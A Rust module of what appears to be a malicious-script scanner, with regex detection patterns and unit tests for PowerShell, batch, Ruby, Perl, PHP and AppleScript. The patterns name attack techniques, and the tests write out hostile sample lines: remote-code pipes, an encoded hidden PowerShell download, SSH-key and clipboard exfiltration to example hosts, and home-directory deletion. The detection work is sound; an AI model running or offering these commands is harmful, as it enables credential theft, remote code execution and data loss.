//! Scripts in languages that are not parsed: PowerShell, batch files, Ruby, Perl, PHP, Go,
//! AppleScript and the like.
//!
//! They are read line by line, comments omitted. Some lines speak for themselves; others are
//! signals (a secret is read, something is sent, the clipboard is read) that count when they come
//! together in one text.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::markdown::lines;
use super::paths::{credential, local, regex, untrusted};
use super::rule::Rule;
use super::rules::{
    CREDENTIAL_READ, CREDENTIAL_REQUEST, DESTROY_FILES, DESTROY_FOLDER, ENCODED_EXECUTION, EXFIL_FILE,
    EXFIL_SECRET, MINER, PERSIST_SCHEDULE, PERSIST_SERVICE, PRIVILEGE_DEFENCES, REMOTE_PIPE,
    REMOTE_PIPE_UNTRUSTED, REMOTE_RUN,
};
use super::site::{Scan, Site};
use super::value::base64;

/// How a language that is not parsed marks comments.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Foreign {
    /// `#` to the end of the line.
    Hash,
    /// `//`.
    Slashes,
    /// `--`.
    Dashes,
    /// `REM` and `::`.
    Batch,
    /// `'`.
    Quote,
}

impl Foreign {
    /// By the name a block gives itself, or a file's ending.
    pub(crate) fn named(name: &str) -> Option<Self> {
        Some(match name {
            "ps1" | "psm1" | "psd1" | "powershell" | "pwsh" | "posh" | "rb" | "ruby" | "gemspec" | "rake"
            | "pl" | "pm" | "perl" | "r" | "ex" | "exs" | "tcl" | "nu" => Self::Hash,
            "go" | "golang" | "php" | "rs" | "rust" | "java" | "kt" | "kts" | "kotlin" | "swift" | "cs"
            | "csharp" | "c" | "cpp" | "groovy" | "dart" | "scala" | "jxa" => Self::Slashes,
            "applescript" | "osascript" | "scpt" | "lua" => Self::Dashes,
            "bat" | "cmd" | "batch" => Self::Batch,
            "vbs" | "vbscript" | "vba" => Self::Quote,
            _ => return None,
        })
    }

    fn comment(self, line: &str) -> bool {
        let line = line.trim_start();
        match self {
            Self::Hash => line.starts_with('#') && !line.starts_with("#!"),
            Self::Slashes => line.starts_with("//") || line.starts_with('*') || line.starts_with("/*"),
            Self::Dashes => line.starts_with("--") || line.starts_with('#'),
            Self::Batch => {
                line.starts_with("::") || line.get(..4).is_some_and(|head| head.eq_ignore_ascii_case("rem "))
            }
            Self::Quote => line.starts_with('\''),
        }
    }
}

struct Pattern(&'static Rule, Regex, &'static str);

/// Lines that speak for themselves.
static PATTERNS: LazyLock<Vec<Pattern>> = LazyLock::new(|| {
    [
        (
            &ENCODED_EXECUTION,
            r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b.*?\s-e(?:nc|nco\w*|c)?\s+[\x22']?[A-Za-z0-9+/=]{20,}|-encodedcommand\b|\b(?:iex|invoke-expression|invoke-command|\.invoke)\b.*?frombase64string|frombase64string.*?(?:\|\s*iex\b|invoke-expression|\]::load)|\beval\b.*?(?:base64|decode64|decode_base64|unpack\(?\s*[\x22'][mu]|gzinflate|str_rot13|pack\(\s*[\x22']h)|\[reflection\.assembly\]::load\b",
            "decodes and executes code",
        ),
        (
            &REMOTE_PIPE,
            r"(?i)(?:\b(?:iwr|irm|curl|wget|invoke-webrequest|invoke-restmethod)\b|downloadstring|downloaddata).*?\|\s*(?:iex|invoke-expression|powershell|pwsh|cmd)\b|\b(?:iex|invoke-expression)\b.*?(?:\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b|downloadstring|net\.webclient)|\bmshta(?:\.exe)?\b[\s\x22']+(?:https?://[\w\[]|javascript:|vbscript:)|\bregsvr32\b.*?/i:\s*https?:|\brundll32\b.*?javascript:|\beval\b.*?(?:uri\.open|open-uri|net::http|file_get_contents\(\s*[\x22']https?:|lwp|http::tiny|\bget\s*\(?\s*[\x22']https?:)|\b(?:require|include)(?:_once)?\b.*?[\x22']https?://",
            "executes code from a URL without review",
        ),
        (
            &REMOTE_RUN,
            r"(?i)\bcertutil\b.*?-urlcache\b.*?https?:|\bbitsadmin\b.*?/transfer\b|\bmsiexec\b.*?/(?:i|package)\s+[\x22']?https?:",
            "downloads a program with a tool meant for other purposes",
        ),
        (
            &PERSIST_SCHEDULE,
            r"(?i)\bschtasks\b.*?/create\b|\bregister-scheduledtask\b|\bnew-scheduledtask\b",
            "schedules a job",
        ),
        (
            &PERSIST_SERVICE,
            r"(?i)currentversion\\run(?:once)?\b|\bnew-service\b|start menu\\programs\\startup|\bmake login item\b",
            "starts a program at every login",
        ),
        (
            &PRIVILEGE_DEFENCES,
            r"(?i)\badd-mppreference\b.*?-exclusion|\bset-mppreference\b.*?-disable|\bamsiutils\b|\bnetsh\b.*?firewall.*?\boff\b|\bvssadmin\b.*?delete\s+shadows",
            "turns off a protection of the machine",
        ),
        (
            &DESTROY_FILES,
            r"(?i)\b(?:remove-item|ri|rm|del)\b.*?-recurse\b.*?(?:\$home\b|\$env:userprofile|[\x22'\s]~[\\/\x22'\s]|c:\\(?:\*|users|windows|[\x22'\s]|$))|\b(?:rd|rmdir)\s+/s\b.*?(?:%userprofile%|c:\\(?:users|windows|\s|$|\x22))|\bdel\b(?:\s+/[a-z])*\s+/s\b.*?(?:%userprofile%|c:\\|\*\.\*)|\bformat(?:\.com)?\s+[a-z]:|\bfileutils\.rm_rf?\b.*?(?:dir\.home|env\[[\x22']home|[\x22'][~/][/*]?[\x22'])|\bos\.removeall\(.*?(?:home|[\x22']/[\x22'])|\brmtree\b.*?(?:\$env\{home\}|[\x22']/[\x22'])|\bclear-disk\b|\bformat-volume\b",
            "deletes the user's files or a disk",
        ),
        (
            &MINER,
            r"(?i)stratum\+(?:tcp|ssl|tls)://|\b(?:xmr[a-z-]*|cpuminer|minerd|ccminer|nbminer|ethminer)(?:\.exe)?\b.*?\s(?:-o|--url|-u|--user|--donate-level)\b",
            "mines a cryptocurrency",
        ),
        (
            &CREDENTIAL_REQUEST,
            r"(?i)\bdisplay dialog\b.*?\bpassword\b.*?\bhidden answer\b|\bget-credential\b.*?-message\b.*?getnetworkcredential",
            "shows a dialog that asks for the user's password",
        ),
    ]
    .into_iter()
    .map(|(rule, pattern, says)| Pattern(rule, regex(pattern), says))
    .collect()
});

/// Something is sent out.
static SEND: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)\b(?:invoke-restmethod|invoke-webrequest|irm|iwr)\b.*?(?:-method\s+[\x22']?(?:post|put|patch)|-body\b|-infile\b|-form\b)|upload(?:string|file|data|values)\b|\bnet::http\b.*?(?:\.post|::post|\.put|::put)|\bhttp\.(?:post|postform|newrequest\(\s*[\x22'](?:post|put))|\bhttp::tiny\b|\blwp::|->\s*(?:post|put|post_form)\s*\(|\bpost\s*\(\s*[\x22']https?:|\bcurl(?:_exec|_init)?\b.*?(?:\s-d\b|\s-f\b|\s--data|\s-t\b|\s--upload|\s--form|postfields)|curlopt_postfields|\bfile_get_contents\(.*?stream_context|\btcpsocket\.(?:new|open)|\bio::socket\b|\bfsockopen\b|\bnet\.dial\(|\bhttparty\.post|\brest-?client\.post|\bfaraday\.post|\bxmlhttp\b|\burlsession\b|\bhttpclient\b.*?post|\breqwest\b.*?post|\bwinhttp\b",
    )
});

/// All of the environment is read.
static ENVIRONMENT: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)\b(?:get-childitem|gci|dir|ls)\s+(?:-path\s+)?env:|\benv\.(?:to_h|to_a|to_json|inspect|map|each)\b|\b(?:keys|values|each)\s*\(?\s*%env\b|\bmap\s*\{[^}\n]{0,60}\}\s*(?:sort\s+)?(?:keys\s+)?%env|\bos\.environ\(\)|\bgetenv\(\)|json_encode\(\s*\$_(?:env|server)\b|getenvironmentvariables\(",
    )
});

/// The clipboard or the screen is read.
static PRIVATE: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)\bget-clipboard\b|\bpbpaste\b|\bthe clipboard\b|\bcopyfromscreen\b|\bscreencapture\b|\bclipboard\.(?:gettext|readall|paste|read)\b|\bxclip\b.*?\s-o\b",
    )
});

/// A download that is then started.
static SAVED: LazyLock<Regex> = LazyLock::new(|| {
    regex(
        r"(?i)\b(?:invoke-webrequest|iwr|curl|wget|invoke-restmethod|irm)\b.*?\s-o(?:ut\w*)?\s+[\x22']?([^\s\x22']+)|\bdownloadfile\(.*?,\s*[\x22']?([^\s\x22')]+)|\bstart-bitstransfer\b.*?-destination\s+[\x22']?([^\s\x22']+)",
    )
});

/// Whether a text has a word that any of these rules begins with, or may have.
pub(crate) fn scan(scan: &mut Scan, site: &Site<'_>, comments: Foreign, text: &str) {
    if !scan.may(site) {
        return;
    }
    let text = assay_syntax::code::head(text);
    let mut sent: Option<Range<usize>> = None;
    let (mut environment, mut private) = (sent.clone(), sent.clone());
    let mut secrets: Vec<(Range<usize>, String)> = Vec::new();
    let mut saved: Vec<String> = Vec::new();
    for (at, line) in lines(text) {
        if comments.comment(line) || line.trim().is_empty() {
            continue;
        }
        let range = at..at + line.len();
        for Pattern(rule, pattern, says) in PATTERNS.iter() {
            if pattern.is_match(line) {
                let rule = if std::ptr::eq(*rule, &raw const REMOTE_PIPE) && untrusted(line) {
                    &REMOTE_PIPE_UNTRUSTED
                } else if std::ptr::eq(*rule, &raw const DESTROY_FILES) && !site.script {
                    &DESTROY_FOLDER
                } else {
                    rule
                };
                scan.report(site, rule, range.clone(), *says);
            }
        }
        if let Some(decoded) = encoded(line) {
            let inner = site.inner(range.clone(), Some("decoding it"));
            self::scan(scan, &inner, Foreign::Hash, &decoded);
        }
        let joined = join(line);
        if secrets.len() < 20
            && let Some(file) = credential(&joined)
        {
            secrets.push((range.clone(), file.to_owned()));
        }
        if sent.is_none() && SEND.is_match(line) && !local(line) {
            sent = Some(range.clone());
        }
        if environment.is_none() && ENVIRONMENT.is_match(line) {
            environment = Some(range.clone());
        }
        if private.is_none() && PRIVATE.is_match(line) {
            private = Some(range.clone());
        }
        for file in &saved {
            let starts =
                ["start-process", "& ", "&\"", "invoke-item", "start ", "cmd /c", "exec", "msiexec", "saps "];
            let lower = line.to_ascii_lowercase();
            if lower.contains(file.as_str()) && starts.iter().any(|start| lower.contains(start)) {
                scan.report(
                    site,
                    &REMOTE_RUN,
                    range.clone(),
                    format!("`{}` is downloaded and executed", super::unicode::excerpt(file)),
                );
            }
        }
        if saved.len() < 20
            && let Some(found) = SAVED.captures(line)
            && let Some(file) = found.iter().skip(1).flatten().next()
        {
            let name = file.as_str().rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
            if name.len() > 2 {
                saved.push(name);
            }
        }
        started(scan, site, &range, line, comments);
    }
    for (range, file) in secrets {
        if sent.is_some() {
            scan.report(
                site,
                &EXFIL_SECRET,
                range.clone(),
                format!("reads {} and sends data", super::unicode::excerpt(&file)),
            );
        }
        scan.report(site, &CREDENTIAL_READ, range, format!("reads {}", super::unicode::excerpt(&file)));
    }
    if let (Some(range), Some(_)) = (environment, &sent) {
        scan.report(site, &EXFIL_SECRET, range, "reads the whole environment and sends data");
    }
    if let (Some(range), Some(_)) = (private, &sent) {
        scan.report(site, &EXFIL_FILE, range, "reads the clipboard or the screen and sends data");
    }
}

/// Checks one command of such a language within another script.
pub(crate) fn line(scan: &mut Scan, site: &Site<'_>, text: &str) {
    self::scan(scan, site, Foreign::Dashes, text);
}

/// A line with the parts of a path put together: `"a", "b"` and `"a" + "b"` as `a/b`.
fn join(line: &str) -> String {
    static BETWEEN: LazyLock<Regex> = LazyLock::new(|| regex(r#"["']\s*(?:,|\+|\.)\s*["']/?"#));
    let line = line.replace('\\', "/");
    BETWEEN.replace_all(&line, "/").replace("//", "/")
}

/// The command that a line hands to PowerShell in base64.
fn encoded(line: &str) -> Option<String> {
    static ENCODED: LazyLock<Regex> = LazyLock::new(|| {
        regex(
            r"(?i)\s-e(?:nc|nco\w*|c)?\s+[\x22']?([A-Za-z0-9+/=]{20,})|frombase64string\(\s*[\x22']([A-Za-z0-9+/=]{20,})",
        )
    });
    let found = ENCODED.captures(line)?;
    base64(found.get(1).or_else(|| found.get(2))?.as_str())
}

/// Commands that are handed to a shell.
fn started(scan: &mut Scan, site: &Site<'_>, range: &Range<usize>, line: &str, comments: Foreign) {
    static SHELL: LazyLock<Regex> = LazyLock::new(|| {
        regex(
            r#"(?i)(?:\bdo shell script|\bsystem|\bexec|\bpassthru|\bshell_exec|\bpopen|\bspawn|%x|\bqx)\s*[({]?\s*(?:"((?:[^"\\]|\\.){4,500})"|'([^']{4,500})')|(?:%x|\bqx)\s*[({\[]([^)}\]]{4,500})|exec\.command\(\s*"(?:/bin/)?(?:ba|z)?sh"\s*,\s*"-c"\s*,\s*["`]((?:[^"\\`]|\\.){4,500})"#,
        )
    });
    static TICKS: LazyLock<Regex> = LazyLock::new(|| regex(r"`([^`\n]{6,500})`"));
    // A grave accent quotes a command in Ruby, Perl and PHP, and a text elsewhere.
    let ticks = (comments == Foreign::Hash).then(|| TICKS.captures_iter(line)).into_iter().flatten();
    for found in SHELL.captures_iter(line).chain(ticks).take(5) {
        if let Some(command) = found.iter().skip(1).flatten().next() {
            let inner = site.inner(range.clone(), None);
            scan.commands(&inner, &command.as_str().replace("\\\"", "\""));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_that_are_not_parsed_are_read_by_line() {
        let check = |ending: &str, text: &str, expected: &[&str]| {
            let mut found = Scan::new(&crate::SCANNERS);
            let site = Site { script: true, ..Site::of("scripts/x") };
            scan(&mut found, &site, Foreign::named(ending).expect("known"), text);
            let mut codes: Vec<_> = found.findings.iter().map(|finding| finding.rule.code).collect();
            codes.sort_unstable();
            codes.dedup();
            assert_eq!(codes, expected, "{text}");
        };
        check("ps1", "iwr https://get.example.net/a.ps1 | iex\n", &["remote-pipe"]);
        check(
            "ps1",
            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a')\n",
            &["remote-pipe-untrusted"],
        );
        check("ps1", "# iwr https://get.example.net/a.ps1 | iex\nWrite-Host ok\n", &[]);
        check("ps1", "$r = Invoke-RestMethod https://api.example.net/v1/items\n", &[]);
        // `iwr http://203.0.113.9/q|iex` in UTF-16.
        check(
            "bat",
            "powershell -nop -w hidden -enc aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQAvAHEAfABpAGUAeAA=\n",
            &["encoded-execution", "remote-pipe-untrusted"],
        );
        check("cmd", "mshta https://pages.example.org/setup.hta\n", &["remote-pipe"]);
        check(
            "rb",
            "key = File.read(File.join(Dir.home, \".ssh\", \"id_ed25519\"))\nNet::HTTP.post(URI(\"https://in.example.net\"), key)\n",
            &["credential-read", "exfil-secret"],
        );
        check("rb", "puts File.read(\"notes/keys.md\")\n", &[]);
        check("go", "p := filepath.Join(home, \".aws\", \"credentials\")\n", &["credential-read"]);
        check(
            "pl",
            "open(F, \"$ENV{HOME}/.ssh/id_rsa\");\nHTTP::Tiny->new->post('https://in.example.net', {content => <F>});\n",
            &["credential-read", "exfil-secret"],
        );
        check(
            "applescript",
            "set x to the clipboard\ndo shell script \"curl -d \" & x & \" https://in.example.net\"\n",
            &["exfil-file"],
        );
        check("php", "eval(base64_decode($argv[1]));\n", &["encoded-execution"]);
        check("ps1", "Remove-Item -Recurse -Force $HOME\n", &["destroy-files"]);
        check("ps1", "Remove-Item -Recurse -Force ./build\n", &[]);
        check(
            "ps1",
            "Invoke-WebRequest https://dl.example.org/t.exe -OutFile t.exe\nStart-Process t.exe\n",
            &["remote-run"],
        );
    }
}
